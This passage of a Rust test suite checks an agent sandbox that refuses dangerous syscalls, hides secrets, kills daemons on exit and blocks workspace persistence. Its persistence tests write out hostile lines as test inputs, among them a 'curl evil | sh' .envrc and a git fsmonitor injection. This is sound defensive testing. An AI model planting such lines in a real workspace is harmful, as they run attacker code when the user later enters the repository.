out("userfaultfd", -sc(323, 1 | os.O_CLOEXEC))
out("perf_event_open", -sc(298, buf(struct.pack("<IIQ", 1, 128, 0), 128), 0, -1, -1, 0))
"#,
    );
    let m = kv(&o);
    for k in [
        "modify_ldt",
        "keyctl",
        "add_key",
        "kcmp",
        "name_to_handle_at",
        "fanotify_init",
        "process_vm_readv",
        "pidfd_getfd",
        "userfaultfd",
        "perf_event_open",
    ] {
        assert_eq!(num(&m, k), EPERM, "{k}: {m:?}");
    }
}

#[test]
fn kernel_calls_reachable_without_privileges_are_refused() {
    check_kernel_surface_refused(User::Caller);
}

#[test]
fn unprivileged_kernel_calls_reachable_without_privileges_are_refused() {
    check_kernel_surface_refused(User::Nobody);
}

#[test]
fn capabilities_no_new_privs_and_seccomp_in_proc_status() {
    check_status_no_privileges(User::Caller);
}

#[test]
fn unprivileged_capabilities_no_new_privs_and_seccomp_in_proc_status() {
    check_status_no_privileges(User::Nobody);
}

// ---------------------------------------------------------------------------------------------------------
// Attacks: what the agent inherits, and lifecycle
// ---------------------------------------------------------------------------------------------------------

#[test]
fn inherited_fd_and_secret_env_are_invisible() {
    let ctx = Ctx::new();
    let secret_file = ctx.root.path().join("inherited.txt");
    std::fs::write(&secret_file, "inherited-secret").unwrap();
    let opts = Opts {
        env: &[
            ("SECRET_TOKEN", "s3cr3t-value"),
            ("AWS_SECRET_ACCESS_KEY", "also-secret"),
        ],
        inherit_fd: Some((&secret_file, 7)),
        ..Default::default()
    };
    let program = format!(
        r#"{PY_PRELUDE}
import fcntl, stat
fds = [fd for fd in range(0, 256) if err(fcntl.fcntl, fd, fcntl.F_GETFD) == 0]
out("fds", ",".join(map(str, fds)))
out("fd3_socket", int(stat.S_ISSOCK(os.fstat(3).st_mode)))
out("environ", ",".join(sorted(os.environ)))
out("secret_in_environ", int(any("s3cr3t" in v or "also-secret" in v for v in os.environ.values())))
out("ZT_AAS_FD", os.environ.get("ZT_AAS_FD", ""))
out("ZT_AAS_SESSION", os.environ.get("ZT_AAS_SESSION", ""))
"#
    );
    let o = run_with(&ctx, &opts, &["/usr/bin/python3", "-c", &program]);
    let m = kv(&o);
    assert_eq!(m["fds"], "0,1,2,3", "{m:?}");
    assert_eq!(num(&m, "fd3_socket"), 1);
    assert!(
        !m["environ"]
            .split(',')
            .any(|k| k == "SECRET_TOKEN" || k == "AWS_SECRET_ACCESS_KEY"),
        "{m:?}"
    );
    assert_eq!(num(&m, "secret_in_environ"), 0);
    assert_eq!(m["ZT_AAS_FD"], "3");
    assert!(!m["ZT_AAS_SESSION"].is_empty(), "{m:?}");

    // The shell's view, and zt-aas on PATH.
    let o = run_with(
        &ctx,
        &opts,
        &[
            "sh",
            "-c",
            "env; echo fds=$(ls /proc/self/fd | tr '\\n' ' '); command -v zt-aas",
        ],
    );
    let out = ok_stdout(&o);
    assert!(
        !out.contains("SECRET_TOKEN") && !out.contains("s3cr3t"),
        "{out}"
    );
    let fds: Vec<&str> = out
        .lines()
        .find_map(|l| l.strip_prefix("fds="))
        .unwrap()
        .split_whitespace()
        .collect();
    // ls opens the directory itself (one more descriptor, numbered 4).
    assert_eq!(fds, ["0", "1", "2", "3", "4"], "{out}");
    assert!(
        out.lines().last().unwrap().ends_with("/zt-aas"),
        "zt-aas is not on PATH: {out}"
    );
}

#[test]
fn daemonized_child_is_gone_when_run_returns() {
    let ctx = Ctx::new();
    let marker = unique("daemon");
    // setsid + double fork, then exec `sleep 300` named after the marker; the agent waits until the daemon
    // is really running (visible in its own /proc), then returns.
    let o = run_python(
        &ctx,
        &format!(
            r#"
import glob, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        fd = os.open("/dev/null", os.O_RDWR)
        for i in (0, 1, 2):
            os.dup2(fd, i)
        {exec}
    os._exit(0)
os.wait()
def running():
    for p in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            if "{rev}"[::-1].encode() in open(p, "rb").read():
                return True
        except OSError:
            pass
    return False
deadline = time.time() + 30
while not running() and time.time() < deadline:
    time.sleep(0.05)
out("daemon_running", int(running()))
"#,
            exec = marked_sleep_py(&marker),
            rev = reversed(&marker),
        ),
    );
    let leftovers = host_pids_with(&marker);
    kill_marked(&marker);
    assert_eq!(
        num(&kv(&o), "daemon_running"),
        1,
        "the daemon never started: {}",
        describe(&o)
    );
    assert!(
        leftovers.is_empty(),
        "daemon still alive after run returned: host pids {leftovers:?}"
    );
}

#[test]
fn sigkilled_supervisor_takes_the_agent_down() {
    check_sigkilled_supervisor_takes_the_agent_down(&Opts::default());
}

#[test]
fn degraded_sigkilled_supervisor_takes_the_agent_down() {
    // No pid namespace: the agent's own PDEATHSIG (init dies with the supervisor, the agent with init).
    check_sigkilled_supervisor_takes_the_agent_down(&Opts {
        env: &[("ZT_AAS_TEST_DISABLE", "userns")],
        flags: &["--allow-degraded"],
        ..Default::default()
    });
}

fn check_sigkilled_supervisor_takes_the_agent_down(opts: &Opts) {
    let ctx = Ctx::new();
    let marker = unique("orphan");
    let program = marked_sleep_py(&marker);
    let mut running = spawn(&ctx, opts, &["/usr/bin/python3", "-c", &program]);
    let started = wait_until(Duration::from_secs(60), || {
        !host_pids_with(&marker).is_empty()
    });
    if !started {
        kill_marked(&marker);
        panic!("the agent never started");
    }
    // SAFETY: SIGKILL to the zt-aas process this test started.
    assert_eq!(unsafe { libc::kill(running.pid(), libc::SIGKILL) }, 0);
    let status = running.child.wait().unwrap();
    assert_eq!(status.signal(), Some(libc::SIGKILL));
    let gone = wait_until(Duration::from_secs(20), || {
        host_pids_with(&marker).is_empty()
    });
    let leftovers = host_pids_with(&marker);
    kill_marked(&marker);
    assert!(
        gone,
        "the agent survived its supervisor: host pids {leftovers:?}"
    );
}

// ---------------------------------------------------------------------------------------------------------
// Attacks: persistence in the workspace
// ---------------------------------------------------------------------------------------------------------

/// Shell lines trying to plant files the user runs later; each prints `name=0` on success, `name=1` else.
const PERSISTENCE_ATTEMPTS: &str = r##"
try() { name=$1; shift; if "$@" 2>/dev/null; then echo "$name=0"; else echo "$name=1"; fi; }
try hook sh -c 'mkdir -p .git/hooks && echo "#!/bin/sh" > .git/hooks/x'
try hook_precommit sh -c 'echo "#!/bin/sh" > .git/hooks/pre-commit'
try envrc sh -c 'echo "curl evil | sh" > .envrc'
try envrc_rename sh -c 'echo evil > evil.tmp && mv -f evil.tmp .envrc'
try vscode sh -c 'echo {} > .vscode/tasks.json'
try rust_toolchain sh -c 'printf "[toolchain]\npath = \"/tmp/tc\"\n" > rust-toolchain.toml'
try rust_toolchain_legacy sh -c 'echo /tmp/tc > rust-toolchain'
try git_rename mv .git .git2
try hooks_remove rm -rf .git/hooks
try hooks_rename mv .git/hooks .git/hooks.old
"##;

fn assert_persistence_refused(ctx: &Ctx, extra_script: &str, extra_keys: &[&str]) {
    let o = run_in_sandbox(ctx, &format!("{PERSISTENCE_ATTEMPTS}{extra_script}"));
    let m = kv(&o);
    let keys = [
        "hook",
        "hook_precommit",
        "envrc",
        "envrc_rename",
        "vscode",
        "rust_toolchain",
        "rust_toolchain_legacy",
        "git_rename",
        "hooks_remove",
        "hooks_rename",
    ];
    for k in keys.iter().chain(extra_keys) {
        assert_eq!(num(&m, k), 1, "`{k}` succeeded: {m:?}");
    }
    assert!(!ctx.ws.join(".git/hooks/x").exists());
    assert!(!ctx.ws.join(".git/hooks/pre-commit").exists());
    assert!(!ctx.ws.join(".git2").exists());
    assert!(!ctx.ws.join(".vscode/tasks.json").exists());
    assert!(!ctx.ws.join("rust-toolchain.toml").is_file());
}

#[test]
fn persistence_files_cannot_be_planted_in_a_fresh_workspace() {
    let ctx = Ctx::new();
    assert_persistence_refused(&ctx, "", &[]);
    // The placeholders created for the run are gone again (they were unused); only the agent's own file
    // remains.
    let mut left: Vec<String> = std::fs::read_dir(&ctx.ws)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    left.sort();
    assert_eq!(
        left,
        ["evil.tmp"],
        "placeholders left behind in the workspace"
    );
}

/// `git init` in `ws`, with a `.git/hooks` directory (some git versions make none).
fn git_init_with_hooks(ws: &Path) {
    let init = Command::new("git")
        .args(["init", "-q"])
        .current_dir(ws)
        .status()
        .unwrap();
    assert!(init.success());
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
}

#[test]
fn the_agent_cannot_open_the_workspace_or_its_git_directory_to_other_users() {
    // Writable by others, `.git` lets any local account swap `.git/hooks` for its own; the workspace lets
    // it plant an `.envrc`. What the agent added is taken away after the run; what the user chose stays.
    for user in [User::Caller, User::Nobody] {
        let ctx = Ctx::as_user(user);
        git_init_with_hooks(&ctx.ws);
        std::fs::create_dir(ctx.ws.join("shared")).unwrap();
        std::fs::set_permissions(
            ctx.ws.join("shared"),
            std::fs::Permissions::from_mode(0o777),
        )
        .unwrap();
        if ctx.setpriv() {
            let chown = Command::new("chown")
                .args(["-R", "65534:65534", ctx.ws_str()])
                .status()
                .unwrap();
            assert!(chown.success());
        }
        let out = run_in_sandbox(
            &ctx,
            "chmod 0777 . .git && chmod 0775 .git/refs && chmod 0644 shared && echo CHANGED; \
             chmod 0777 .git/hooks 2>/dev/null || echo HOOKS_REFUSED",
        );
        let stdout = ok_stdout(&out);
        assert!(stdout.contains("CHANGED"), "{stdout}");
        assert!(stdout.contains("HOOKS_REFUSED"), "{stdout}");
        let mode = |p: &str| {
            std::fs::symlink_metadata(ctx.ws.join(p))
                .unwrap()
                .permissions()
                .mode()
                & 0o7777
        };
        assert_eq!(
            mode("."),
            0o755,
            "the workspace stayed open: {}",
            describe(&out)
        );
        assert_eq!(
            mode(".git"),
            0o755,
            "`.git` stayed open: {}",
            describe(&out)
        );
        assert!(
            text(&out.stderr).contains("put back to 755"),
            "the user was not told: {}",
            text(&out.stderr)
        );
        // Not on the way to a protected path: the agent's business. The user's own choice is kept.
        assert_eq!(mode(".git/refs"), 0o775);
        assert_eq!(mode("shared"), 0o644);

        // A fresh workspace: what the agent creates at a protected path (`git init` writes .git/config)
        // is judged too; a group/other write bit there was never the user's.
        let fresh = Ctx::as_user(user);
        let out = run_in_sandbox(
            &fresh,
            "umask 000 && git init -q . && touch .gitmodules .bashrc && chmod 0666 .git/config \
             .gitmodules .bashrc && echo MADE",
        );
        assert!(ok_stdout(&out).contains("MADE"), "{}", describe(&out));
        for p in [".git/config", ".gitmodules", ".bashrc"] {
            let m = std::fs::symlink_metadata(fresh.ws.join(p))
                .unwrap()
                .permissions()
                .mode()
                & 0o777;
            assert_eq!(m, 0o644, "{p} stayed open: {}", describe(&out));
        }
    }
}

/// Whether `path` carries the extended attribute `name` (read on the host, after the run).
fn has_xattr(path: &Path, name: &str) -> bool {
    use std::os::unix::ffi::OsStrExt;
    let path = std::ffi::CString::new(path.as_os_str().as_bytes()).unwrap();
    let name = std::ffi::CString::new(name).unwrap();
    // SAFETY: two valid C strings; a null buffer of size 0 only asks for the value's size.
    unsafe { libc::getxattr(path.as_ptr(), name.as_ptr(), std::ptr::null_mut(), 0) >= 0 }
}

#[test]
fn the_agent_cannot_leave_an_acl_that_opens_later_files_to_other_users() {
    // A default ACL `o::rwx` on the workspace or `.git` outlives the run and overrides the user's umask:
    // the `.git/config` of a later `git init`, or a new hook directory, comes out writable by every local
    // account (which then adds `core.fsmonitor`). The permission bits, checked after the run, show nothing.
    const ACL: &str = "struct.pack('<I', 2) + b''.join(struct.pack('<HHI', t, 7, 0xffffffff) for t in (1, 4, 0x20))";
    for user in [User::Caller, User::Nobody] {
        let ctx = Ctx::as_user(user);
        git_init_with_hooks(&ctx.ws);
        // The precondition that makes this test mean something: the file system takes ACLs.
        let probe = ctx.root.path().join("probe");
        std::fs::create_dir(&probe).unwrap();
        let set = Command::new("python3")
            .args([
                "-c",
                &format!(
                    "import os, struct; os.setxattr({:?}, 'system.posix_acl_default', {ACL})",
                    probe.to_str().unwrap()
                ),
            ])
            .status()
            .unwrap();
        assert!(set.success(), "the test's file system takes no ACLs");
        assert!(has_xattr(&probe, "system.posix_acl_default"));
        if ctx.setpriv() {
            let chown = Command::new("chown")
                .args(["-R", "65534:65534", ctx.ws_str()])
                .status()
                .unwrap();
            assert!(chown.success());
        }
        let out = run_python(
            &ctx,
            &format!(
                "import struct\nacl = {ACL}\nopen('notes', 'w').close()\n\
                 out('default_ws', err(os.setxattr, '.', 'system.posix_acl_default', acl))\n\
                 out('default_git', err(os.setxattr, '.git', 'system.posix_acl_default', acl))\n\
                 out('access_file', err(os.setxattr, 'notes', 'system.posix_acl_access', acl))\n\
                 out('user_attr', err(os.setxattr, 'notes', 'user.origin', b'agent'))\n"
            ),
        );
        let got = kv(&out);
        for key in ["default_ws", "default_git", "access_file", "user_attr"] {
            assert_eq!(
                got.get(key).map(String::as_str),
                Some(libc::EOPNOTSUPP.to_string().as_str()),
                "{key}: {}",
                describe(&out)
            );
        }
        for (path, name) in [
            (".", "system.posix_acl_default"),
            (".git", "system.posix_acl_default"),
            ("notes", "system.posix_acl_access"),
        ] {
            assert!(
                !has_xattr(&ctx.ws.join(path), name),
                "{path} kept the agent's {name}"
            );
        }
    }
}

#[test]
fn persistence_files_cannot_be_planted_in_an_existing_git_repo() {
    let ctx = Ctx::new();
    git_init_with_hooks(&ctx.ws);
    let config_before = std::fs::read(ctx.ws.join(".git/config")).unwrap();
    let extra =
        "try git_config sh -c 'printf \"[core]\\n\\tfsmonitor = evil\\n\" >> .git/config'\n";
    assert_persistence_refused(&ctx, extra, &["git_config"]);
    assert_eq!(
        std::fs::read(ctx.ws.join(".git/config")).unwrap(),
        config_before
    );
    assert!(
        ctx.ws.join(".git/HEAD").is_file(),
        "the repository was damaged"
    );
}

// ---------------------------------------------------------------------------------------------------------
// The positive side
// ---------------------------------------------------------------------------------------------------------

#[test]
fn sh_pipeline_works() {
    let ctx = Ctx::new();
    let o = run_in_sandbox(&ctx, "printf 'a\\nb\\n' | sort -r | head -1");
    assert_eq!(ok_stdout(&o), "b\n");
}

#[test]
fn a_pipeline_closed_early_ends_quietly() {
    // `cmd | head` ends `cmd` by SIGPIPE in any shell; zt-aas (a Rust program, which ignores SIGPIPE)
    // must not hand the agent an ignored SIGPIPE, or every such pipeline prints broken-pipe errors.
    let ctx = Ctx::new();
    let o = run_in_sandbox(
        &ctx,
        "yes | head -1; seq 1000000 | head -1; grep SigIgn /proc/self/status",
    );
    let stdout = ok_stdout(&o);
    assert!(stdout.starts_with("y\n1\n"), "{}", describe(&o));
    let ignored = stdout
        .lines()
        .find_map(|l| l.strip_prefix("SigIgn:"))
        .and_then(|m| u64::from_str_radix(m.trim(), 16).ok())
        .expect("SigIgn");
    assert_eq!(ignored & (1 << (libc::SIGPIPE - 1)), 0, "SIGPIPE ignored");
    assert!(!text(&o.stderr).contains("Broken pipe"), "{}", describe(&o));
}

#[test]
fn python3_works() {
    let ctx = Ctx::new();
    let o = run_with(
        &ctx,
        &Opts::default(),
        &["python3", "-c", "import hashlib, json; print(json.dumps({'x': hashlib.sha256(b'abc').hexdigest()[:8]}))"],
    );
    assert_eq!(ok_stdout(&o), "{\"x\": \"ba7816bf\"}\n");
}

#[test]
fn git_init_add_commit_in_the_workspace() {
    check_git_commit(User::Caller);
}

#[test]
fn unprivileged_git_init_add_commit_in_the_workspace() {
    check_git_commit(User::Nobody);
}

/// A pseudo-terminal of the host's, held open for as long as this lives: its `/dev/pts/N` path.
struct HostPty {
    fd: i32,
    path: String,
}

impl HostPty {
    fn open() -> HostPty {
        // SAFETY: posix_openpt/grantpt/unlockpt/ptsname_r on a descriptor we own, into a stack buffer.
        unsafe {
            let fd = libc::posix_openpt(libc::O_RDWR | libc::O_NOCTTY | libc::O_CLOEXEC);
            assert!(fd >= 0, "posix_openpt");
            assert_eq!(libc::grantpt(fd), 0);
            assert_eq!(libc::unlockpt(fd), 0);
            let mut name = [0 as libc::c_char; 64];
            assert_eq!(libc::ptsname_r(fd, name.as_mut_ptr(), name.len()), 0);
            let path = std::ffi::CStr::from_ptr(name.as_ptr())
                .to_string_lossy()
                .into_owned();
            HostPty { fd, path }
        }
    }
}

impl Drop for HostPty {
    fn drop(&mut self) {
        // SAFETY: closing our own descriptor.
        unsafe { libc::close(self.fd) };
    }
}

fn check_own_pseudo_terminals(user: User) {
    // The agent has pseudo-terminals (pty.fork, `script`), from a devpts instance of its own: the host's
    // (the user's terminals) are not there.
    let host = HostPty::open();
    let ctx = Ctx::as_user(user);
    let o = run_python(
        &ctx,
        &format!(
            r#"
import pty
out("host_pty_visible", os.path.exists({host:?}))
pid, fd = pty.fork()
if pid == 0:
    os.execvp("sh", ["sh", "-c", "tty"])
data = b""
while True:
    try:
        chunk = os.read(fd, 1024)
    except OSError:
        break
    if not chunk:
        break
    data += chunk
os.waitpid(pid, 0)
out("own_pty", data.decode().strip())
"#,
            host = host.path
        ),
    );
    let kv = kv(&o);
    assert_eq!(kv["host_pty_visible"], "False", "{}", describe(&o));
    assert!(kv["own_pty"].starts_with("/dev/pts/"), "{}", describe(&o));
}

#[test]
fn the_agent_has_pseudo_terminals_of_its_own_and_none_of_the_hosts() {
    check_own_pseudo_terminals(User::Caller);
}

#[test]
fn unprivileged_the_agent_has_pseudo_terminals_of_its_own() {
    check_own_pseudo_terminals(User::Nobody);
}

#[test]
fn degraded_mode_gives_no_access_to_the_hosts_pseudo_terminals() {
    // Without a mount namespace there is no private devpts: the host's ptys (the user's terminals) are
    // in plain sight, and Landlock must keep them closed.
    let host = HostPty::open();
    let ctx = Ctx::new();
    let o = run_with(
        &ctx,
        &Opts {
            flags: &["--allow-degraded"],
            env: &[("ZT_AAS_TEST_DISABLE", "userns")],
            ..Opts::default()
        },
        &[
            "/usr/bin/python3",
            "-c",
            &format!(
                "{PY_PRELUDE}\nout('open_host_pty', err(os.open, {:?}, os.O_RDWR | os.O_NOCTTY))\n\
                 out('open_ptmx', err(os.open, '/dev/ptmx', os.O_RDWR | os.O_NOCTTY))",
                host.path
            ),
        ],
    );
    let kv = kv(&o);
    assert_eq!(kv["open_host_pty"], "13", "{}", describe(&o));
    assert_eq!(kv["open_ptmx"], "13", "{}", describe(&o));
}

#[test]
fn degraded_mode_keeps_the_agent_from_the_users_other_processes_and_queues() {
    // Without a pid or IPC namespace the user's other processes (the supervisor among them) and POSIX
    // message queues are the host's: the agent must not change their limits or scheduling (RLIMIT_FSIZE
    // 0 killed the supervisor at its next record), nor create or unlink queues. Its own stay its own.
    // As the unprivileged user, with a decoy of that user's (as root, no capability makes it differ).
    let ctx = Ctx::as_user(User::Nobody);
    let mut decoy = if ctx.setpriv() {
        Command::new("setpriv")
            .args([
                "--reuid=65534",
                "--regid=65534",
                "--clear-groups",
                "sleep",
                "30",
            ])
            .spawn()
            .unwrap()
    } else {
        Command::new("sleep").arg("30").spawn().unwrap()
    };
    let pid = decoy.id();
    std::thread::sleep(Duration::from_millis(100));
    let limits = || std::fs::read_to_string(format!("/proc/{pid}/limits")).unwrap();
    let before = limits();
    let code = format!(
        "import resource\n\
         out('prlimit_other', err(resource.prlimit, {pid}, resource.RLIMIT_FSIZE, (0, 0)))\n\
         out('nice_other', err(os.setpriority, os.PRIO_PROCESS, {pid}, 19))\n\
         out('nice_user', err(os.setpriority, os.PRIO_USER, 0, 19))\n\
         out('affinity_other', err(os.sched_setaffinity, {pid}, {{0}}))\n\
         out('nice_own', err(os.setpriority, os.PRIO_PROCESS, 0, 5))\n\
         out('affinity_own', err(os.sched_setaffinity, 0, {{0}}))\n\
         out('rlimit_own', err(resource.setrlimit, resource.RLIMIT_CORE, (0, 0)))\n\
         name = ctypes.cast(ctypes.c_char_p(b'/zt-aas-test-queue'), ctypes.c_void_p).value\n\
         out('mq_open', sc(240, name, os.O_CREAT | os.O_RDWR, 0o600, 0))\n\
         out('mq_unlink', sc(241, name))\n"
    );
    let o = run_with(
        &ctx,
        &Opts {
            flags: &["--allow-degraded"],
            env: &[("ZT_AAS_TEST_DISABLE", "userns")],
            ..Opts::default()
        },
        &["/usr/bin/python3", "-c", &format!("{PY_PRELUDE}\n{code}")],
    );
    let after = limits();
    let _ = decoy.kill();
    let _ = decoy.wait();
    let kv = kv(&o);
    for refused in ["prlimit_other", "nice_other", "nice_user", "affinity_other"] {
        assert_eq!(kv[refused], "1", "{refused}: {}", describe(&o));
    }
    for own in ["nice_own", "affinity_own", "rlimit_own"] {
        assert_eq!(kv[own], "0", "{own}: {}", describe(&o));
    }
    assert_eq!(kv["mq_open"], "-1", "{}", describe(&o));
    assert_eq!(kv["mq_unlink"], "-1", "{}", describe(&o));
    assert_eq!(before, after, "the decoy's limits changed");
}

#[test]
fn private_tmp_is_writable_and_not_the_hosts() {
    let ctx = Ctx::new();
    let host_name = unique("host-tmp");
    let host_file = PathBuf::from("/tmp").join(&host_name);
    std::fs::write(&host_file, "host").unwrap();
    let inside_name = unique("inside-tmp");
    let o = run_in_sandbox(
        &ctx,
        &format!(
            "echo data > /tmp/{inside_name} && cat /tmp/{inside_name} && \
             if [ -e /tmp/{host_name} ]; then echo host-visible; fi; echo TMPDIR=$TMPDIR"
        ),
    );
    let _ = std::fs::remove_file(&host_file);
    assert_eq!(ok_stdout(&o), "data\nTMPDIR=/tmp\n");
    assert!(
        !Path::new("/tmp").join(&inside_name).exists(),
        "the sandbox wrote to the host's /tmp"
    );
}

#[test]
fn ten_megabytes_of_stdout_arrive_intact() {
    let ctx = Ctx::new();
    let o = run_in_sandbox(&ctx, "head -c 10000000 /dev/zero | tr '\\0' a");
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert_eq!(o.stdout.len(), 10_000_000);
    assert!(o.stdout.iter().all(|&b| b == b'a'));
}

#[test]
fn stdin_is_piped_through() {
    let ctx = Ctx::new();
    let o = run_with(
        &ctx,
        &Opts {
            stdin: Some(b"hi\n"),
            ..Default::default()
        },
        &["cat"],
    );
    assert_eq!(ok_stdout(&o), "hi\n");
    let big: Vec<u8> = (0..1_000_000u32).map(|i| b'a' + (i % 26) as u8).collect();
    let o = run_with(
        &ctx,
        &Opts {
            stdin: Some(&big),
            ..Default::default()
        },
        &["wc", "-c"],
    );
    assert_eq!(ok_stdout(&o).trim(), "1000000");
}

#[test]
fn exit_codes_are_propagated() {
    check_exit_codes(User::Caller);
}

#[test]
fn unprivileged_exit_codes_are_propagated() {
    check_exit_codes(User::Nobody);
}

#[test]
fn missing_command_is_127_and_non_executable_is_126() {
    let ctx = Ctx::new();
    // An empty command name is a bad command line (125), said as such.
    let o = run_with(&ctx, &Opts::default(), &[""]);
    assert_eq!(o.status.code(), Some(125), "{}", describe(&o));
    assert!(text(&o.stderr).contains("empty"), "{}", describe(&o));
    let o = run_with(&ctx, &Opts::default(), &["zt-no-such-command"]);
    assert_eq!(o.status.code(), Some(127), "{}", describe(&o));
    assert!(
        text(&o.stderr).contains("zt-no-such-command"),
        "{}",
        describe(&o)
    );
    let script = ctx.ws.join("not-executable.sh");
    std::fs::write(&script, "#!/bin/sh\necho ran\n").unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o644)).unwrap();
    let o = run_with(&ctx, &Opts::default(), &[script.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(126), "{}", describe(&o));
    assert!(!text(&o.stdout).contains("ran"));
    // There, executable, but its interpreter is not: it cannot be executed (126), it is not "not found".
    let orphan = ctx.ws.join("no-interpreter.sh");
    std::fs::write(
        &orphan,
        "#!/nonexistent/interpreter
echo ran
",
    )
    .unwrap();
    std::fs::set_permissions(&orphan, std::fs::Permissions::from_mode(0o755)).unwrap();
    let o = run_with(&ctx, &Opts::default(), &[orphan.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(126), "{}", describe(&o));
    assert!(text(&o.stderr).contains("interpreter"), "{}", describe(&o));
}

#[test]
fn a_workspace_the_caller_cannot_write_is_refused_with_the_reason() {
    // uid 65534 in a directory of root's: the placeholders cannot be made; the user is told why.
    let ctx = Ctx::as_user(User::Nobody);
    if !ctx.setpriv() {
        return; // (run by a user without privileges: no other uid to own the workspace)
    }
    std::os::unix::fs::chown(&ctx.ws, Some(0), Some(0)).unwrap();
    std::fs::set_permissions(&ctx.ws, std::fs::Permissions::from_mode(0o755)).unwrap();
    let o = run_in_sandbox(&ctx, "true");
    assert_eq!(o.status.code(), Some(125), "{}", describe(&o));
    assert!(
        text(&o.stderr).contains("is not writable by uid 65534"),
        "{}",
        describe(&o)
    );
}

#[test]
fn run_says_when_the_workspaces_repository_lies_outside_it() {
    // A linked worktree (or submodule checkout) of a repository elsewhere, or a subdirectory of a
    // repository: git inside cannot reach the repository, and the user is told why at the start.
    let ctx = Ctx::new();
    std::fs::write(
        ctx.ws.join(".git"),
        "gitdir: /srv/elsewhere/.git/worktrees/ws\n",
    )
    .unwrap();
    let o = run_in_sandbox(&ctx, "true");
    assert_eq!(o.status.code(), Some(0), "{}", describe(&o));
    let stderr = text(&o.stderr);
    assert!(
        stderr.contains("git will not work inside")
            && stderr.contains("/srv/elsewhere/.git/worktrees/ws"),
        "{stderr}"
    );

    let ctx = Ctx::new();
    let init = Command::new("git")
        .args(["init", "-q"])
        .current_dir(ctx.root.path())
        .status()
        .unwrap();
    assert!(init.success());
    let o = run_in_sandbox(&ctx, "true");
    let stderr = text(&o.stderr);
    assert!(
        stderr.contains("inside the git repository at")
            && stderr.contains(ctx.root.path().to_str().unwrap()),
        "{stderr}"
    );

    // Unless that repository is the caller's home (dotfiles): no project's.
    let home = ctx.root.path().to_str().unwrap();
    let o = run_with(
        &ctx,
        &Opts {
            env: &[("HOME", home)],
            ..Default::default()
        },
        &["true"],
    );
    assert_eq!(o.status.code(), Some(0), "{}", describe(&o));
    assert!(
        !text(&o.stderr).contains("git will not work"),
        "{}",
        describe(&o)
    );

    // A repository of its own: nothing to say.
    let ctx = Ctx::new();
    git_init_with_hooks(&ctx.ws);
    let o = run_in_sandbox(&ctx, "true");
    assert!(
        !text(&o.stderr).contains("git will not work"),
        "{}",
        describe(&o)
    );
}

#[test]
fn sigterm_is_forwarded_to_the_agent() {
    let ctx = Ctx::new();
    let ready = ctx.ws.join("ready");
    let script = format!(
        "trap 'exit 7' TERM; touch {}; while :; do sleep 0.1; done",
        ready.display()
    );
    let running = spawn(&ctx, &Opts::default(), &["sh", "-c", &script]);
    assert!(
        wait_until(Duration::from_secs(60), || ready.exists()),
        "the agent never started"
    );
    // SAFETY: SIGTERM to the zt-aas process this test started.
    assert_eq!(unsafe { libc::kill(running.pid(), libc::SIGTERM) }, 0);
    let o = running.wait();
    assert_eq!(o.status.code(), Some(7), "{}", describe(&o));
}

#[test]
fn the_agent_may_start_a_session_of_its_own() {
    // `setsid` and daemons call setsid(2), which a process group leader cannot: the agent joins its
    // job's group, it does not lead it.
    let ctx = Ctx::new();
    let o = run_in_sandbox(
        &ctx,
        "setsid sh -c 'echo SETSID-OK'; python3 -c 'import os; os.setsid(); print(\"PY-SETSID-OK\")'",
    );
    let stdout = ok_stdout(&o);
    assert!(stdout.contains("SETSID-OK"), "{}", describe(&o));
    assert!(stdout.contains("PY-SETSID-OK"), "{}", describe(&o));
}

#[test]
fn sigint_reaches_the_command_a_script_is_waiting_for() {
    // Ctrl-C goes to the terminal's whole foreground job: a shell script (make, npm) waits for its command
    // and acts on SIGINT only once that command ends, so the command must get it too.
    let ctx = Ctx::new();
    let ready = ctx.ws.join("ready");
    let child = format!(
        "import signal, sys, time\n\
         signal.signal(signal.SIGINT, lambda *a: (print('child got INT', flush=True), sys.exit(3)))\n\
         open({:?}, 'w').close()\n\
         time.sleep(30)\n",
        ready.to_str().unwrap()
    );
    std::fs::write(ctx.ws.join("child.py"), child).unwrap();
    let script = "trap 'echo shell got INT' INT; python3 child.py; echo \"child exited $?\"";
    let running = spawn(&ctx, &Opts::default(), &["sh", "-c", script]);
    assert!(
        wait_until(Duration::from_secs(60), || ready.exists()),
        "the agent never started"
    );
    // SAFETY: SIGINT to the zt-aas process this test started.
    assert_eq!(unsafe { libc::kill(running.pid(), libc::SIGINT) }, 0);
    let o = running.wait();
    let stdout = text(&o.stdout);
    assert!(stdout.contains("child got INT"), "{}", describe(&o));
    assert!(stdout.contains("child exited 3"), "{}", describe(&o));
    assert!(stdout.contains("shell got INT"), "{}", describe(&o));
}

// ---------------------------------------------------------------------------------------------------------
// Fail closed
// ---------------------------------------------------------------------------------------------------------

#[test]
fn counts_the_kernel_keeps_per_user_leave_the_users_other_programs_their_share() {
    // inotify instances and queued signals are counted per user across the host: an agent must not be
    // able to take them all from the user's editor, file watchers or systemd --user.
    let ctx = Ctx::new();
    let host_instances: u64 = std::fs::read_to_string("/proc/sys/fs/inotify/max_user_instances")
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    let o = run_python(
        &ctx,
        r#"
import signal, struct
n = 0
while libc.inotify_init1(0) >= 0:
    n += 1
out("inotify_instances", n)
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
info = ctypes.create_string_buffer(128)
queued = 0
while queued < 200000:
    ctypes.memmove(info, struct.pack("iii", int(signal.SIGRTMIN), 0, -1), 12)
    if sc(129, os.getpid(), int(signal.SIGRTMIN), ctypes.addressof(info)) != 0:
        break
    queued += 1
out("signals_queued", queued)
"#,
    );
    let kv = kv(&o);
    let instances: u64 = kv["inotify_instances"].parse().unwrap();
    assert!(
        instances <= host_instances / 2,
        "{instances} of {host_instances}: {}",
        describe(&o)
    );
    let queued: u64 = kv["signals_queued"].parse().unwrap();
    assert!(queued <= 1024, "{queued} signals queued: {}", describe(&o));
}

#[test]
fn a_profile_denying_a_syscall_denies_its_twin() {
    // `deny = ["inotify_init1"]` must not leave the older inotify_init open.
    let ctx = Ctx::new();
    let profile = ctx.root.path().join("no-inotify.toml");
    std::fs::write(
        &profile,
